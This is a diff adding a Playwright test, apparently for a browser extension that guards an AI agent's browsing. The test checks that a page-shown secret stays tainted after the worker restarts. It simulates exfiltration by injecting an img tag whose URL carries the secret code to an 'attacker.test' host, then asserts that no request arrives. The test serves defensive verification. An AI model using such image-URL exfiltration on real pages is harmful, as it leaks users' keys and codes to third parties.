@@ -278,6 +278,30 @@ test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () =>
   });
 });
 
+test.describe('the taint across a worker restart, no MAIN-world hooks', () => {
+  test('after the worker restarts, the floor still refuses the secret the page showed', async () => {
+    test.setTimeout(90_000);
+    const browser = await launch('nohooks');
+    try {
+      await browser.setPolicy(READ_ONLY);
+      const id = `restart${++caseNumber}`;
+      const secret = newSecret();
+      server.setPage(`/show/${id}`, `<!doctype html><title>${id}</title><p>Your API key: <code>${secret.key}</code></p><p>Sign-in code: ${secret.code}</p>`);
+      const page = await browser.context.newPage();
+      await page.goto(`${server.origin(HOME)}/show/${id}`);
+      await taintRecorded(browser, secret);
+      await browser.restartWorker();
+      // The woken worker reconciles the rules it finds with the stored task: the taint is still there.
+      await taintRecorded(browser, secret);
+      await page.evaluate((u) => document.body.insertAdjacentHTML('beforeend', `<img src="${u}">`), `${server.origin(ATTACKER)}/${id}/${secret.code}.png`);
+      await sleep(QUIET_MS);
+      expect(server.hits(`/${id}/`, ATTACKER), 'the shown code reached attacker.test after the restart').toHaveLength(0);
+    } finally {
+      await browser.close();
+    }
+  });
+});
+
 test.describe('floor exfiltration without the extension (negative control)', () => {
   let browser: AgentBrowser;
   test.beforeAll(async () => {
